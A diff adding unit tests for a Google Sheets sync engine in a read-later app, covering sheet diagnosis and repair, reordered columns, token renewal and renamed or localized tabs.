+      expect(diagnosis.duplicates).toEqual([{ url: 'https://example.com/dup', rowNumbers: [2, 4] }]);
+      expect(diagnosis.invalidRows).toEqual([
+        { rowNumber: 5, url: '', reason: 'missing-url' },
+        { rowNumber: 6, url: 'https://example.com/untitled', reason: 'missing-title' },
+      ]);
+      expect(diagnosis.invalidDates).toEqual([
+        { rowNumber: 7, url: 'https://example.com/dated', column: 'Timestamp', value: '2025-06-01', normalized: '2025-06-01T00:00:00.000Z' },
+      ]);
+      expect(diagnosis.formulas).toEqual([
+        { rowNumber: 8, url: 'https://example.com/formula', column: 'Notes', formula: '=B8&" notes"', value: 'Formula notes' },
+      ]);
+      expect(server.getRevision(spreadsheetId).version).toBe(before);
+    });
+
+    test('repair merges duplicates field by field and fixes the other rows', async () => {
+      const { engine, spreadsheetId } = createUnhealthySheet();
+
+      const result = await engine.repair();
+
+      expect(result).toEqual({ headersRenamed: 1, duplicatesMerged: 1, rowsRemoved: 2, rowsUpdated: 4 });
+      expect(server.getRow(spreadsheetId, 1)?.[NOTES]).toBe('Notes');
+
+      const articles = await engine.getArticles();
+      expect(articles.map(article => article.url)).toEqual([
+        'https://example.com/dup',
+        'https://example.com/fine',
+        'https://example.com/untitled',
+        'https://example.com/dated',
+        'https://example.com/formula',
+      ]);
+      expect(articles[0]).toMatchObject({
+        title: 'New title',
+        notes: 'Kept note',
+        favorite: true,
+        timestamp: '2025-06-01T00:00:00.000Z',
+        editedAt: '2025-06-03T00:00:00.000Z',
+        addedBy: 'first@example.com',
+      });
+      expect(articles[2]).toMatchObject({ title: 'https://example.com/untitled' });
+      expect(server.getRow(spreadsheetId, 5)?.[TIMESTAMP]).toBe('2025-06-01T00:00:00.000Z');
+      expect(articles[4].notes).toBe('Formula notes');
+
+      const after = await engine.diagnose();
+      expect([after.duplicates, after.invalidRows, after.invalidDates, after.formulas, after.headers.misnamed]).toEqual([[], [], [], [], []]);
+    });
+
+    test('repair only fixes the chosen kinds of problems', async () => {
+      const { engine, spreadsheetId } = createUnhealthySheet();
+
+      const result = await engine.repair({ headers: false, duplicates: false, invalidRows: false, formulas: false });
+
+      expect(result).toEqual({ headersRenamed: 0, duplicatesMerged: 0, rowsRemoved: 0, rowsUpdated: 1 });
+      expect(server.getDataRows(spreadsheetId)).toHaveLength(7);
+    });
+  });
+
+  describe('column layout', () => {
+    // The user moved Title to the front and added their own Priority column
+    const REARRANGED_HEADERS = ['Title', 'Priority', ...SPREADSHEET_HEADERS.filter(header => header !== 'Title')];
+
+    function rearrangedRow(article: ArticleData, priority: string): string[] {
+      const [url, title, ...rest] = articleToSheetRow(article);
+      return [title, priority, url, ...rest];
+    }
+
+    function createRearrangedEngine(dataRows: string[][] = []) {
+      const spreadsheetId = server.createSpreadsheet('ReadLater', dataRows, REARRANGED_HEADERS);
+      server.setAppDataConfig(spreadsheetId);
+      const engine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage());
+      return { engine, spreadsheetId };
+    }
+
+    test('reads articles by header name when columns were reordered', async () => {
+      const article = makeArticle({ url: 'https://example.com/moved', title: 'Moved columns', tags: ['a', 'b'] });
+      const { engine } = createRearrangedEngine([rearrangedRow(article, 'high')]);
+
+      const [loaded] = await engine.getArticles();
+
+      expect(loaded.url).toBe('https://example.com/moved');
+      expect(loaded.title).toBe('Moved columns');
+      expect(loaded.tags).toEqual(['a', 'b']);
+    });
+
+    test('writes into the mapped columns and leaves user columns alone', async () => {
+      const article = makeArticle({ url: 'https://example.com/keep', title: 'Keep priority' });
+      const { engine, spreadsheetId } = createRearrangedEngine([rearrangedRow(article, 'high')]);
+
+      await engine.updateArticle('https://example.com/keep', { favorite: true });
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/new', title: 'New row' }));
+
+      const [updated, appended] = server.getDataRows(spreadsheetId);
+      expect(updated[REARRANGED_HEADERS.indexOf('Priority')]).toBe('high');
+      expect(updated[REARRANGED_HEADERS.indexOf('Favorite')]).toBe('1');
+      expect(appended[REARRANGED_HEADERS.indexOf('Title')]).toBe('New row');
+      expect(appended[REARRANGED_HEADERS.indexOf('URL')]).toBe('https://example.com/new');
+    });
+
+    test('delta sync and cleanup find the date columns wherever they are', async () => {
+      const old = makeArticle({ url: 'https://example.com/old', deletedAt: '2020-01-01T00:00:00.000Z' });
+      const recent = makeArticle({ url: 'https://example.com/recent', editedAt: '2025-07-01T00:00:00.000Z' });
+      const { engine, spreadsheetId } = createRearrangedEngine([rearrangedRow(old, ''), rearrangedRow(recent, '')]);
+
+      const changed = await engine.getArticlesChangedSince('2025-06-15T00:00:00.000Z');
+      expect(changed.map(article => article.url)).toEqual(['https://example.com/recent']);
+
+      expect(await engine.cleanupDeletedArticles(30)).toBe(1);
+      expect(server.getDataRows(spreadsheetId)).toHaveLength(1);
+    });
+
+    test('adds missing columns after the user columns and records the schema version', async () => {
+      const headers = REARRANGED_HEADERS.filter(header => !['Added By', 'Edited By', 'Revision'].includes(header));
+      const spreadsheetId = server.createSpreadsheet('ReadLater', [], headers);
+      server.setAppDataConfig(spreadsheetId);
+      const engine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage());
+
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/migrated' }));
+
+      expect(server.getRow(spreadsheetId, 1)).toEqual([...headers, 'Added By', 'Edited By', 'Revision']);
+      expect(server.isColumnHidden(spreadsheetId, headers.length + 2)).toBe(true);
+      expect((await engine.getArticles())[0].addedBy).toBe('reader@example.com');
+      const config = JSON.parse(server.getAppDataFile('readlater.config.json')!.content);
+      expect(config.schemaVersions).toEqual({ [spreadsheetId]: SCHEMA_VERSION });
+    });
+  });
+
+  describe('token renewal', () => {
+    function createRenewingEngine(renews: boolean) {
+      const spreadsheetId = server.createSpreadsheet('ReadLater');
+      server.setAppDataConfig(spreadsheetId);
+      server.simulateExternalAppend(spreadsheetId, articleToSheetRow(makeArticle({ url: 'https://example.com/a' })));
+
+      const authProvider = createEngineAuth();
+      let token = 'revoked-token';
+      authProvider.getAuthToken = async () => token;
+      authProvider.getTokenExpiry = () => Date.now() + 30 * 60 * 1000;
+      authProvider.renewToken = vi.fn(async () => {
+        if (renews) token = 'renewed-token';
+        return renews;
+      });
+      server.rejectedTokens.add('revoked-token');
+
+      const engine = new GoogleSheetsSyncEngine(authProvider, new InMemorySpreadsheetStorage());
+      return { engine, authProvider };
+    }
+
+    test('a rejected token is renewed and the request repeated', async () => {
+      const { engine, authProvider } = createRenewingEngine(true);
+
+      const articles = await engine.getArticles();
+
+      expect(articles.map(article => article.url)).toEqual(['https://example.com/a']);
+      expect(authProvider.renewToken).toHaveBeenCalledTimes(1);
+    });
+
+    test('writes throw AuthenticationRequiredError when the token cannot be renewed', async () => {
+      const { engine } = createRenewingEngine(false);
+
+      await expect(engine.saveArticles([makeArticle({ url: 'https://example.com/b' })]))
+        .rejects.toThrow(AuthenticationRequiredError);
+      await expect(engine.getArticles()).rejects.toThrow(AuthenticationRequiredError);
+    });
+  });
+
+  describe('article tab', () => {
+    test('finds the articles tab by sheetId after the user renames it', async () => {
+      const { engine, spreadsheetId } = createEngine(server);
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/before' }));
+
+      server.renameTab(spreadsheetId, 'Sheet1', 'Articles');
+      const reopened = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage());
+      await reopened.saveArticle(makeArticle({ url: 'https://example.com/after' }));
+      await reopened.deleteArticle('https://example.com/before');
+      await reopened.cleanupDeletedArticles(-1);
+
+      expect(server.getDataRows(spreadsheetId).map(row => row[0])).toEqual(['https://example.com/after']);
+      const config = JSON.parse(server.getAppDataFile('readlater.config.json')!.content);
+      expect(config.articleSheets).toEqual({ [spreadsheetId]: { sheetId: 0, title: 'Articles' } });
+    });
+
+    test('uses the first tab of a new spreadsheet whatever its localized title', async () => {
+      server.firstTabTitle = 'Hoja 1';
+      // A first sign-in: no spreadsheet is known yet, so one is created
+      const engine = new GoogleSheetsSyncEngine(createEngineAuth(), new InMemorySpreadsheetStorage());
+
+      await engine.saveArticle(makeArticle({ url: 'https://example.com/localized' }));
+
+      expect((await engine.getArticles()).map(article => article.url)).toEqual(['https://example.com/localized']);
+      const config = JSON.parse(server.getAppDataFile('readlater.config.json')!.content);
+      expect(server.getDataRows(config.spreadsheetId)).toHaveLength(1);
+    });
+
+    test('createList can keep a list in a named tab of an existing spreadsheet', async () => {
+      const { engine } = createEngine(server);
+      const workbook = server.createSpreadsheet('Household', [['January', '120']], ['Month', 'Amount']);
+
+      const list = await engine.createList('Reading', { spreadsheetId: workbook, sheetTitle: "Mom's links" });
+      const listEngine = new GoogleSheetsSyncEngine(createEngineAuth(), new LocalStorageSpreadsheetStorage(), undefined, list.id);
+      await listEngine.saveArticles([
+        makeArticle({ url: 'https://example.com/a' }),
+        makeArticle({ url: 'https://example.com/b' }),
+      ]);
+      await listEngine.batchDeleteArticles(['https://example.com/a']);
+      await listEngine.cleanupDeletedArticles(-1);
+
+      expect(list.spreadsheetId).toBe(workbook);
+      expect(server.getTabRows(workbook, "Mom's links")?.map(row => row[0])).toEqual(['https://example.com/b']);
+      expect(server.getDataRows(workbook)).toEqual([['January', '120']]);
+      await expect(engine.createList('Again', { spreadsheetId: workbook, sheetTitle: 'Other' })).rejects.toThrow('already used');
+    });
+  });
 });